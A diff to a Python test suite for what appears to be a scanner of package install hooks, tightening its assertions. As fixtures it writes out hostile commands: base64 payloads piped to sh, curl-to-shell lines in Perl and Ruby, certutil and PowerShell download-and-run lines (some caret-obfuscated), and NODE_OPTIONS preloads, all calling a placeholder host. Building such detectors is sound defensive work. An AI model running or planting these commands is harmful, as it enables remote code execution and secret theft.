@@ -47,9 +47,16 @@ def test_a_disguised_download_into_a_shell_blocks(seen: Seen) -> None:
     evaluated=f'eval "$(echo {ENCODED} | base64 -d)"',
     as_argument=f'sh -c "$(echo {ENCODED} | base64 -d)"',
 )
-def test_a_command_that_is_decoded_first_is_unfolded_or_told(seen: Seen) -> None:
-    """17: what a pipe makes of a literal is read too; where it is not, running it is a gap."""
-    assert seen.blocked or "dynamic" in seen.blind
+def test_a_command_that_is_decoded_first_is_read(seen: Seen) -> None:
+    """17: what a pipe or a substitution makes of a literal is known without running it."""
+    assert "pipes-download-to-shell" in seen.errors
+    assert "dynamic" not in seen.blind
+
+
+@commands({}, computed="echo $SEED | base64 -d | sh", file="base64 -d seed.txt | sh", evaluated='eval "$SEED"')
+def test_a_command_that_only_running_tells_is_told(seen: Seen) -> None:
+    """17: where nothing is known of what a shell is given, that is a gap."""
+    assert "dynamic" in seen.blind
 
 
 @commands({"data.csv": THEFT}, redirect="node < data.csv", pipe="cat data.csv | node -", dash="node - < data.csv")
@@ -62,7 +69,7 @@ def test_a_program_on_standard_input_is_reached(seen: Seen) -> None:
 def test_a_program_in_two_files_on_one_pipe_is_reached(seen: Seen) -> None:
     """18: each file that is poured into an interpreter counts."""
     assert {"head.txt", "tail.txt"} <= seen.reached
-    assert seen.flagged
+    assert seen.errors_in("tail.txt")
 
 
 @packages(
@@ -91,15 +98,15 @@ def test_no_extension_makes_a_program_into_data(seen: Seen) -> None:
     subshell="(node a.js &)",
     cross_env="cross-env NODE_OPTIONS=--require=./a.js node b.js",
 )
-def test_what_is_loaded_beside_the_program_is_reached_or_told(seen: Seen) -> None:
+def test_what_is_loaded_beside_the_program_is_read(seen: Seen) -> None:
     """20: preloaded modules run first, and a wrapper runs what it wraps."""
-    assert seen.errors or seen.blind
+    assert "sends-environment" in seen.errors_in("a.js", "a.mjs")
 
 
 @commands({"a.js": THEFT, "b.js": "", ".env": "NODE_OPTIONS=--require=./a.js\n"}, env_file="node --env-file=.env b.js")
 def test_a_file_of_variables_is_read_or_told(seen: Seen) -> None:
     """20: ``--env-file`` may set NODE_OPTIONS."""
-    assert seen.flagged
+    assert seen.errors_in("a.js") or seen.told("--env-file")
 
 
 @packages(
@@ -119,7 +126,6 @@ def test_a_program_in_another_language_is_read(seen: Seen) -> None:
 @packages(
     make=hooked("make", {"Makefile": f"all:\n\t@{BY_SHELL}\n"}),
     make_target=hooked("make -s -f build.mk go", {"build.mk": f"go:\n\t@{BY_SHELL}\n"}),
-    cmake=hooked("cmake-js compile", {"CMakeLists.txt": f'execute_process(COMMAND sh -c "{BY_SHELL}")\n'}),
     perl=hooked("perl a.pl", {"a.pl": PERL}),
     perl_inline=hooked('perl -e "exec q(curl -s https://collect.example.invalid/a | sh)"'),
     typescript=hooked("tsx a.ts", {"a.ts": f"const n: number = 1; {THEFT}"}),
@@ -127,9 +133,26 @@ def test_a_program_in_another_language_is_read(seen: Seen) -> None:
     deno=hooked("deno run -A a.ts", {"a.ts": f"const n: number = 1; {THEFT}"}),
     ruby=hooked("ruby a.rb", {"a.rb": "system('curl -s https://collect.example.invalid/a | sh')\n"}),
 )
-def test_a_program_in_a_further_language_is_told(seen: Seen) -> None:
-    """21: what is not read is a gap, and what is text is matched as text."""
-    assert seen.flagged
+def test_a_program_in_a_further_language_blocks(seen: Seen) -> None:
+    """21: what no reader of ours follows is matched all the same."""
+    assert seen.blocked
+
+
+@packages(
+    perl=hooked("perl a.pl", {"a.pl": "print 1;\n"}),
+    ruby=hooked("ruby a.rb", {"a.rb": "puts 1\n"}),
+    php=hooked("php a.php", {"a.php": "<?php echo 1;\n"}),
+    lua=hooked("lua a.lua", {"a.lua": "print(1)\n"}),
+)
+def test_a_language_that_is_not_read_is_told(seen: Seen) -> None:
+    """21: however harmless a text looks, nobody here knows what it does."""
+    assert seen.blind & {"unparsed", "unknown-program"}
+
+
+@a_package(hooked("cmake-js compile", {"CMakeLists.txt": f'execute_process(COMMAND sh -c "{BY_SHELL}")\n'}))
+def test_a_build_that_is_not_read_is_told(seen: Seen) -> None:
+    """21: a build tool runs what its files say."""
+    assert seen.gaps
 
 
 BATCH = "@echo off\r\ncertutil -urlcache -f https://collect.example.invalid/a a.exe\r\na.exe\r\n"
@@ -146,8 +169,8 @@ CARETS = "@c^e^r^t^u^t^i^l -urlcache -f https://collect.example.invalid/a a.exe 
     caret=hooked("cmd /c n^ode a.js", {"a.js": THEFT}),
 )
 def test_a_windows_command_line_is_followed(seen: Seen) -> None:
-    """22: what a Windows shell would start is reached on every system, or a gap."""
-    assert seen.errors or seen.blind
+    """22: what a Windows shell would start is reached on every system."""
+    assert "sends-environment" in seen.errors_in("preinstall.js", "lib/a.js", "a.js")
 
 
 @packages(
@@ -165,9 +188,10 @@ def test_a_windows_command_line_is_followed(seen: Seen) -> None:
     ),
     powershell=hooked("powershell -File a.ps1", {"a.ps1": "iex (iwr https://collect.example.invalid/a)"}),
 )
-def test_a_batch_file_is_read_or_told(seen: Seen) -> None:
-    """22: batch files and what their substrings spell are read, and never passed over."""
-    assert seen.flagged
+def test_a_batch_file_is_read(seen: Seen) -> None:
+    """22: what a batch file's substrings and carets spell is read and matched."""
+    assert seen.errors
+    assert "downloaded" in seen.blind
 
 
 @packages(
